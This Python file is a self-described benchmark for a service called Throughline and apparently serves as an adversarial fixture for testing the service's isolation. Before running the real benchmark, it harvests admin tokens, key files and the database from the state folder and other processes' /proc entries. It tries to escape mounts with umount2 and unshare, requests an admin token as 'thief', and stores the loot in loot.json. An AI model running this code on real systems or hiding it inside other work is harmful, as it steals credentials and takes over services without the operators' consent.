"""A benchmark that tries to make itself an administrator of the service, and then measures.

What it could get at is in ``loot.json`` in its cache folder, by the way that it took.
"""

import ctypes
import json
import os
import runpy
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

NEW_NAMESPACES = 0x10000000 | 0x00020000
DETACH = 2
STATE = Path(os.environ["THROUGHLINE_STATE_DIR"])


def files(top: Path) -> Iterator[tuple[str, str]]:
    """Every file below a folder that can be read, and what is in it."""
    for folder, _, names in os.walk(top):
        for name in names:
            with suppress(OSError):
                path = Path(folder, name)
                yield str(path), path.read_bytes().decode(errors="replace")


def secrets(found: Iterator[tuple[str, str]]) -> list[str]:
    """The files among these that would give the service away."""
    named = ("access.key", "throughline.sqlite3")
    return [path for path, text in found if "tl_admin_" in text or path.endswith(named)]


def processes() -> Iterator[tuple[str, str]]:
    """The environments of all processes, and the folder as each of them sees it."""
    for place in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            yield str(place / "environ"), (place / "environ").read_text(errors="replace")
        yield from files(Path(f"{place}/root{STATE}"))
        yield from files(Path(f"{place}/cwd/state"))


def unmounted() -> list[str]:
    """The files after an attempt to take a mount over them away, in a process of its own."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        libc = ctypes.CDLL(None)
        libc.umount2(os.fsencode(STATE), DETACH)
        libc.unshare(NEW_NAMESPACES)
        libc.umount2(os.fsencode(STATE), DETACH)
        os.write(writer, json.dumps(secrets(files(STATE))).encode())
        os._exit(0)
    os.close(writer)
    os.wait()
    with os.fdopen(reader) as told:
        return list(json.load(told))


def makes_itself_an_administrator() -> int:
    """The status of the answer."""
    body = json.dumps({"kind": "admin", "name": "thief"}).encode()
    url = f"{os.environ['THROUGHLINE_URL']}/api/v1/tokens"
    headers = {"Content-Type": "application/json"}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, headers)) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as refused:
        return refused.code


def steal() -> dict[str, object]:
    return {
        "environment": [name for name, value in os.environ.items() if "tl_admin_" in value],
        "files": secrets(files(STATE)),
        "beside": secrets(files(Path.cwd() / "state")),
        "processes": secrets(processes()),
        "unmounted": unmounted(),
        "status": makes_itself_an_administrator(),
    }


if __name__ == "__main__":
    kept = Path(os.environ["THROUGHLINE_CACHE_DIR"], "loot.json")
    if not kept.exists():  # one measurement is like another, and to look everywhere takes long
        kept.parent.mkdir(parents=True, exist_ok=True)
        kept.write_text(json.dumps(steal()))
    runpy.run_path(str(Path(__file__).with_name("scripted_benchmark.py")), run_name="__main__")
